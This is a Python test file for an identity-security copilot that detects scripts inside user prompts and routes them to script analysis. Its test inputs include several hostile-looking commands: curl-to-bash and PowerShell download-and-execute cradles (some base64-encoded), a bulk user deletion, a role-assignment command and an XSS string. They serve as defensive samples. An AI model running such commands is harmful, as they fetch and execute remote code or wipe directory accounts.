"""A prompt carrying a script is routed to script_analysis with the script as its input."""

from __future__ import annotations

import base64

import pytest

from idpilot.copilot.engine import Copilot
from idpilot.copilot.planner import plan_offline
from idpilot.copilot.script_request import carried_script
from idpilot.copilot.session import Session
from idpilot.skills import default_registry
from tests.conftest import DemoTenant

REGISTRY = default_registry()
BLOB = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"


@pytest.mark.parametrize(
    ("prompt", "script"),
    [
        (
            "what does this do? powershell -nop -w hidden -enc " + BLOB,
            "powershell -nop -w hidden -enc " + BLOB,
        ),
        (
            "is this safe?\n```powershell\nGet-MgUser -All | Remove-MgUser\n```\nthanks",
            "Get-MgUser -All | Remove-MgUser",
        ),
        (
            "review this: $users = Get-MgUser -All; $users.Count",
            "$users = Get-MgUser -All; $users.Count",
        ),
        (
            "saw this in cron: curl -fsSL http://x.test/k.sh | bash",
            "curl -fsSL http://x.test/k.sh | bash",
        ),
        (
            "decode this pls: Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC45L2suc2gg",
            "Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC45L2suc2gg",
        ),
        (
            "Found this: IEX (New-Object Net.WebClient).DownloadString('http://x')",
            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        ),
    ],
)
def test_the_script_a_prompt_carries_is_found_by_its_syntax(prompt: str, script: str) -> None:
    assert carried_script(prompt) == script


@pytest.mark.parametrize(
    "prompt",
    [
        "why did Alice fail to sign in yesterday?",
        "run this for me: SigninLogs | where ResultType == 50126 | summarize count() by IPAddress",
        "what is the sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "who used the app 3f2504e0-4f89-11d3-9a0c-0305e82c3301 this week?",
        "write me a python script that scrapes LinkedIn",
        "Who is <script>alert(1)</script> Naomi Jansen?",
    ],
)
def test_prose_queries_hashes_and_ids_carry_no_script(prompt: str) -> None:
    assert carried_script(prompt) is None


def test_a_prompt_carrying_a_script_is_analysed_whatever_the_classifier_read(
    demo_tenant: DemoTenant,
) -> None:
    store = demo_tenant.store
    prompt = (
        "can u check this before I run it:"
        " Get-MgUser -All | ForEach-Object { Remove-MgUser -UserId $_.Id }"
    )
    plan = plan_offline(store, REGISTRY, prompt, store.captured_at())
    assert [call.skill for call in plan.calls] == ["script_analysis"]
    assert plan.calls[0].params["script"].startswith("Get-MgUser -All |")
    assert plan.not_yet is None


def test_the_answer_may_name_what_the_decoded_script_holds(demo_tenant: DemoTenant) -> None:
    # `IEX (iwr http://203.0.113.77/s.ps1)` as PowerShell's -EncodedCommand (UTF-16LE base64).
    encoded = "IEX (iwr http://203.0.113.77/s.ps1)".encode("utf-16-le")
    prompt = "is this safe? powershell -nop -w hidden -enc " + base64.b64encode(encoded).decode()
    answer = Copilot(demo_tenant.store).ask(prompt, Session())
    assert [call.name for call in answer.skills] == ["script_analysis"]
    assert "203.0.113.77" in answer.answer


def test_audit_events_a_script_names_are_cited_with_the_admin_they_name(
    demo_tenant: DemoTenant,
) -> None:
    prompt = (
        "found this in a scheduled task, is it dangerous?\n"
        "New-MgDirectoryRoleMemberByRef -DirectoryRoleId "
        '"62e90394-69f5-4237-9190-012177145e10" -BodyParameter @{ "@odata.id" = '
        '"https://graph.microsoft.com/v1.0/servicePrincipals/$($app.Id)" }'
    )
    answer = Copilot(demo_tenant.store).ask(prompt)
    assert answer.status.value == "ok", answer.answer  # grounded: not withheld
    audits = [c for c in answer.citations if c.kind == "directoryAudit"]
    assert audits, "the role id names audit events of the demo tenant"
